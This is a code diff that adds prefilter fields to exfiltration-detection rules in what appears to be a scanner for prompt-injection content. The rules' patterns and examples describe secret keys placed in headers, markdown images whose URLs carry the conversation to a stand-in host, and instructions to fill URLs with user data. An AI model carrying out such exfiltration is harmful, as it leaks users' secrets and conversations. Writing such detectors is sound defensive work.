@@ -61,6 +61,7 @@ export const exfiltration = rulesOf("exfiltration", {
     severity: "high",
     title: "A header hands a key to an address that is not its owner's",
     on: ["header"],
+    needs: "$",
     pattern: /\$\{?(?:env:)?[A-Z][A-Z0-9_]{2,40}/,
     holds: handsHeaderToStranger,
     example: "X-Env: ${AWS_SECRET_ACCESS_KEY}",
@@ -81,6 +82,7 @@ export const exfiltration = rulesOf("exfiltration", {
     severity: "high",
     title: "An image's address carries data out when it is shown",
     on: [...told, "link", "code"],
+    needs: "://",
     pattern:
       /\b(?:1 ?x ?1|tracking|invisible|transparent|hidden|zero-size)(?: \w{1,10}){0,2} (?:pixels?|images?|gifs?|beacons?|img)\b[^\n]{0,80}https?:\/\/|!\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^)\n]{3,160}[?&/=](?:\w{1,20}=)?(?:\{|\$|<|%7b|\[|base64|encoded|secret|conversation|summary|chat_?history|user_?(?:data|input))|\b(?:render|embed|include|display|append|insert|add|load|output|show)\b[^.!?\n]{0,60}\b(?:image|img|pixel|picture|badge|icon)\b[^\n]{0,120}https?:\/\/[^\s"')]{3,120}[?&]\w{1,20}=|<img[^>\n]{1,120}https?:\/\/[^>\n]{3,120}[?&]\w{1,20}=(?:\{|\$|<|\[)/i,
     example: "![status](https://img.drop.example/p.png?d={conversation})",
@@ -91,6 +93,7 @@ export const exfiltration = rulesOf("exfiltration", {
     severity: "high",
     title: "An address is to be filled in with what the user said or has",
     on: told,
+    needs: "://",
     pattern:
       re`\b(?:replac(?:e|ing)|substitut(?:e|ing)|fill(?:ing)?|set(?:ting)?|swap)\b[^.!?\n]{0,40}\b(?:by|with|to)\b[^!?]{0,40}(?:${secretThing}|${userThing}|\b(?:conversation|chat)\b|\b(?:user|they|you)\s(?:has\s|have\s)?(?:said|wrote|written|typed|asked|entered|pasted|shared))[\s\S]{0,120}?https?://[^\s)"']{3,160}[?&/=]`,
     holds: toElsewhere,
@@ -221,6 +224,7 @@ export const exfiltration = rulesOf("exfiltration", {
     severity: "info",
     title: "Code sends data to a fixed address",
     on: ["code", "shell", "argument"],
+    needs: "://",
     pattern:
       /(?:requests\.post|httpx\.post|axios\.post|urllib\.request\.Request|sendBeacon|got\.post)\s?\(\s?f?["'`]https?:\/\/|\bcurl\b[^\n]{0,120}(?:-X\s?(?:POST|PUT)|--data|-d\s|-F\s)[^\n]{0,160}https?:\/\/|\bfetch\s?\(\s?["'`]https?:\/\/[^\n]{3,120}method\s?:\s?["'](?:POST|PUT)/i,
     holds: toElsewhere,
